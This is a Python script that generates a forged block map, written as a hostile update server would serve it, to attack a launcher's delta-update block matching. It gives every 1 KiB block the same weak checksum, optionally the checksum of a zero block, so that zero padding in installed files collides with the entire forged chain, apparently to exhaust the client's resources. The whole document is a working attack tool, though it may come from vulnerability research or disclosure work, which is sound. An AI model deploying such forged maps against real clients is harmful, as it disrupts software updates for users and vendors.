#!/usr/bin/env python3
"""Writes a forged block map for a file, as a hostile server could serve it:
1 KiB blocks (the smallest the launcher reads), every block with one and the
same weak sum, each with another check sum.

  forge_map.py SIZE SHA1 OUT [--weak zero|fixed]

--weak zero takes the sum of a zero-filled block, so that every window of a
zero run in the installed copy (pak padding) meets the whole forged chain;
fixed takes a sum no window is likely to have."""
import argparse
import struct
import zlib

ap = argparse.ArgumentParser()
ap.add_argument("size", type=int)
ap.add_argument("sha1")
ap.add_argument("out")
ap.add_argument("--weak", choices=("zero", "fixed"), default="fixed")
args = ap.parse_args()
block = 1024
blocks = (args.size + block - 1) // block
weak = zlib.crc32(bytes(block)) if args.weak == "zero" else 0x5EED1234
zero_check = zlib.crc32(bytes(256))
header = (b"TVLMAP1\n" + bytes.fromhex(args.sha1) + args.size.to_bytes(8, "little") +
          block.to_bytes(4, "little") + bytes([4, 4, 0, 0]))
with open(args.out, "wb") as f:
    f.write(header)
    for i in range(blocks):
        check = (i + 1) & 0xFFFFFFFF
        f.write(struct.pack("<II", weak, check if check != zero_check else check + 1))
